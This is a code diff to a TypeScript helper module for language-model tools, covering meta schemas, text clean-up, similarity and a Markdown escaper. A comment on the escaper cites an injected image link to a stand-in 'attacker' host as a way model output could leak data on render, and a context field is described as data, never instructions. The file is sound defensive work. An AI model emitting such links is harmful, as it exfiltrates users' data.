@@ -4,23 +4,32 @@ import { AppError } from '../../errors.js';
 import type { LlmApi, LlmMeta, ToolContext } from '../types.js';
 
 /**
- * What the language-model tools of group B (mind_opener, idea_fold, hints_parade, genius_plus,
- * skeptic_pov) share: the `meta` every result carries (usage summed over several model calls), word
- * sets for similarity, whitespace-normalised verbatim matching, and bounded concurrency. Pure module:
- * no side effects at load, so sandbox threads may import it.
+ * What the structured language-model tools share: the `meta` block every result carries (usage summed
+ * over several model calls), text clean-up applied to model strings, word sets and stems for
+ * similarity, whitespace-normalised verbatim matching, bounded concurrency, and the error a handler
+ * throws when the model's (schema-valid) reply is still unusable. Pure module: no side effects at load,
+ * so sandbox threads may import it.
+ *
+ * Model schemas passed to ctx.llm.structured() stay inside OpenAI's strict dialect: every property
+ * required, nullable instead of optional, no refinements or transforms, no length or count limits.
+ * Counts, lengths and emptiness are checked here, in code, after the reply arrives.
  */
 
-export const UsageSchema = z.object({
-  prompt_tokens: z.number().int().min(0),
-  completion_tokens: z.number().int().min(0),
-  total_tokens: z.number().int().min(0),
+export const LlmMetaSchema = z.object({
+  model: z.string().describe('The model the upstream says answered.'),
+  usage: z
+    .object({
+      prompt_tokens: z.number().int().nonnegative(),
+      completion_tokens: z.number().int().nonnegative(),
+      total_tokens: z.number().int().nonnegative(),
+    })
+    .nullable()
+    .describe('Token usage summed over the call (including a repair prompt), or null when the upstream did not report it.'),
+  prompt_version: z.string().describe('Version of the instructions that produced this result.'),
 });
 
-export const MetaSchema = z.object({
-  model: z.string(),
-  usage: UsageSchema.nullable(),
-  prompt_version: z.string(),
-});
+/** The same schema, by the name the multi-call tools use. */
+export const MetaSchema = LlmMetaSchema;
 
 /**
  * One `meta` for a result built from several model calls: the model of the first call (they all go to
@@ -39,15 +48,84 @@ export function mergeMeta(metas: readonly LlmMeta[], promptVersion: string, fall
   return { model: metas[0]?.model ?? fallbackModel, usage, prompt_version: promptVersion };
 }
 
-/** ctx.llm, or 503 when the tool runs without it (admission checks `needs` first; direct calls may not). */
+export const META_OUTPUT = 'meta: {model, usage: {prompt_tokens, completion_tokens, total_tokens} | null, prompt_version}';
+
+/** Optional free-text background for a tool (a string, not a chat transcript). */
+export const MAX_CONTEXT_CHARS = 20_000;
+export const contextField = z
+  .string()
+  .trim()
+  .max(MAX_CONTEXT_CHARS)
+  .optional()
+  .describe(`Background the model should take into account (at most ${MAX_CONTEXT_CHARS} characters). Sent as data, never as instructions.`);
+
+/** The structured client, or 503 when the upstream is not configured (admission normally stops that first). */
 export function llmOf(ctx: ToolContext, tool: string): LlmApi {
-  if (!ctx.llm) throw new AppError('tool_unavailable', `${tool} needs a language-model upstream: set LLM_BASE_URL. Nothing was charged.`, { needs: ['llm'] });
+  if (!ctx.llm) throw new AppError('tool_unavailable', `${tool} needs a language-model upstream: set LLM_BASE_URL`, { needs: ['llm'] });
   return ctx.llm;
 }
 
-/** The model's reply passed its schema but not a check the schema cannot express: 503, uncharged, no fallback. */
+/** A schema-valid reply that still cannot make a result (nothing usable in it): 503, uncharged. */
 export function unusableReply(tool: string, why: string): AppError {
-  return new AppError('tool_unavailable', `language-model upstream failed: its ${tool} reply was unusable (${why})`, {}, { retryable: false });
+  return new AppError('tool_unavailable', `language-model upstream failed: the ${tool} reply was unusable (${why})`, {}, { retryable: false });
+}
+
+// Control characters except tab/newline/CR (those become spaces below anyway).
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u200B-\u200D\u2060\uFEFF]/g;
+
+/** One line of model text: control and zero-width characters removed, every whitespace run one space, trimmed. */
+export function clean(s: string): string {
+  return s.replace(CONTROL, '').replace(/\s+/gu, ' ').trim();
+}
+
+/** Cleaned strings, empties dropped, case-insensitive duplicates dropped (first kept), at most `max`. */
+export function cleanList(items: readonly string[], max = Infinity): string[] {
+  const seen = new Set<string>();
+  const out: string[] = [];
+  for (const raw of items) {
+    const s = clean(raw);
+    const key = s.toLowerCase();
+    if (!s || seen.has(key)) continue;
+    seen.add(key);
+    out.push(s);
+    if (out.length >= max) break;
+  }
+  return out;
+}
+
+/** Number of Unicode code points (what `chars` and `max_chars` count). */
+export function codePoints(s: string): number {
+  let n = 0;
+  for (const _ of s) n += 1;
+  return n;
+}
+
+/** Lower-cased words (runs of letters and digits, NFKC-normalised), as a set. */
+export function wordSet(s: string): Set<string> {
+  return new Set(s.normalize('NFKC').toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? []);
+}
+
+/** |A ∩ B| / |A ∪ B| of the two texts' word sets; 0 when both are empty. */
+export function jaccard(a: string | ReadonlySet<string>, b: string | ReadonlySet<string>): number {
+  const A = typeof a === 'string' ? wordSet(a) : a;
+  const B = typeof b === 'string' ? wordSet(b) : b;
+  if (A.size === 0 && B.size === 0) return 0;
+  let inter = 0;
+  for (const w of A) if (B.has(w)) inter += 1;
+  return inter / (A.size + B.size - inter);
+}
+
+/**
+ * Escapes model text for Markdown so it renders as text: no raw HTML, no links or images (an
+ * injected `![](https://attacker/?q=...)` would fetch on render), no emphasis or tables from stray
+ * characters. Input is expected to be one line already (see `clean`).
+ */
+export function mdText(s: string): string {
+  return s
+    .replace(/[\\`*_[\]<>|#!~]/g, (c) => `\\${c}`)
+    .replace(/^([-+=])/, '\\$1') // a list item, or a setext heading underline
+    .replace(/^(\d+)([.)])/, '$1\\$2'); // an ordered list item
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -77,14 +155,6 @@ export function stems(text: string): string[] {
   return out;
 }
 
-/** Jaccard similarity of two sets (0 when both are empty). */
-export function jaccard(a: ReadonlySet<string>, b: ReadonlySet<string>): number {
-  if (a.size === 0 && b.size === 0) return 0;
-  let shared = 0;
-  const [small, big] = a.size <= b.size ? [a, b] : [b, a];
-  for (const x of small) if (big.has(x)) shared++;
-  return shared / (a.size + b.size - shared);
-}
 
 export function round(x: number, digits = 3): number {
   const f = 10 ** digits;
